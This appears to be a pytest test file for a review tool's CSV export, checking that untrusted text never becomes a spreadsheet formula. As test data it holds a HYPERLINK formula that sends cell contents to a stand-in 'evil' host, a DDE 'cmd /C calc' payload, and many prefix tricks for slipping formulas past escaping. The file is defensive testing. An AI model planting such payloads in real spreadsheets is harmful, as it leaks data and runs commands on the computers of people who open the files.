"""The exported sheet in spreadsheets of all countries: no text of a stranger becomes a formula."""

import csv
from pathlib import Path

import pytest

from pacos.evaluate.review import spreadsheet
from pacos.evaluate.review.sheet import ItemSource, Sheet, SheetItem
from pacos.evaluate.review.votes import Votes

FORMULA = '=HYPERLINK("http://evil/?"&A1)'
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"


def sheet_of(*texts: str, seed: int = 0) -> Sheet:
    items = [SheetItem(f"{number:04}", text, "", "", ["x"]) for number, text in enumerate(texts, 1)]
    key = {item.id: ItemSource(item.id, 0, "", ["m"]) for item in items}
    return Sheet("rating", "s", len(items), seed, len(items), ["m"], items, key)


def cells(text: str, separator: str) -> list[str]:
    """As Excel reads a file where lists have this separator: quotes count only at the beginning of a cell."""
    found, cell, quoted, at_start, index = [], "", False, True, 0
    while index < len(text):
        character = text[index]
        if quoted and character == '"' and text[index + 1 : index + 2] == '"':
            cell, index = cell + '"', index + 1
        elif quoted or (character == '"' and at_start):
            quoted, cell = (not quoted, cell) if character == '"' else (quoted, cell + character)
            at_start = False
        elif character in (separator, "\r", "\n"):
            found.append(cell)
            cell, at_start = "", True
        else:
            cell, at_start = cell + character, False
        index += 1
    return [*found, cell]


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize(
    "before",
    ["", " ", "\n", "\t", "\r", "\r\n", "\u00a0", "\u3000", "\ufeff", "\u200b", "\x00", "\x0b", "\u202f", "a\n", "a;",
     "a\t", "a;  ", 'a;"', 'a\n""', 'a\r\n \t', "'", '"', "a\n\u200b"],
)  # fmt: skip
def test_no_cell_begins_with_a_formula(before: str, sign: str, separator: str, tmp_path: Path) -> None:
    spreadsheet.write_csv(sheet_of(f"{before}{sign}{FORMULA[1:]}"), tmp_path / "s.csv")
    text = (tmp_path / "s.csv").read_bytes().decode("utf-8-sig")
    passed_over = " \t\r\n\u00a0\u3000\ufeff\u200b\x00\x0b\u202f"
    assert [cell for cell in cells(text, separator) if cell.strip(passed_over)[:1] in set(SIGNS)] == []


@pytest.mark.parametrize("text", ["a\n- one\n- two", "5 - 3 = 2", "a; b", "x@y.z", "a -b", "", "C++"])
def test_text_without_formulas_stays_as_it_is(text: str, tmp_path: Path) -> None:
    spreadsheet.write_csv(sheet_of(text), tmp_path / "s.csv")
    with (tmp_path / "s.csv").open(encoding="utf-8-sig", newline="") as lines:
        assert next(csv.DictReader(lines))["instruction"] == text


def test_a_formula_among_bullets_is_none() -> None:
    assert spreadsheet._escape_formula("a\n- one\n- cmd|' /C calc'!A0") == "a\n- one\n'- cmd|' /C calc'!A0"


def test_the_fingerprint_is_never_taken_for_a_number() -> None:
    for seed in range(300):  # one in 145 of twelve hexadecimal digits is a number
        with pytest.raises(ValueError, match="could not convert"):
            float(spreadsheet.fingerprint(sheet_of("a", seed=seed)))


def test_a_sheet_that_an_earlier_version_exported_is_imported(tmp_path: Path) -> None:
    sheet = sheet_of("a")
    spreadsheet.write_csv(sheet, tmp_path / "s.csv")
    text = (tmp_path / "s.csv").read_text(encoding="utf-8").replace(spreadsheet.fingerprint(sheet), "@")
    earlier = text.replace("@", spreadsheet.fingerprint(sheet)[1:]).replace("a,,,x,,", "a,,,x,B,=1+1")
    (tmp_path / "s.csv").write_text(earlier, encoding="utf-8")
    votes = Votes(tmp_path / "votes.jsonl", sheet)
    assert spreadsheet.import_csv(votes, tmp_path / "s.csv", "ann") == 1
    assert votes.ballot("ann").given == {"0001": {"grade": "B"}}
    assert votes.ballot("ann").notes == {"0001": "=1+1"}, "a note is the text that was given"
    votes.close()
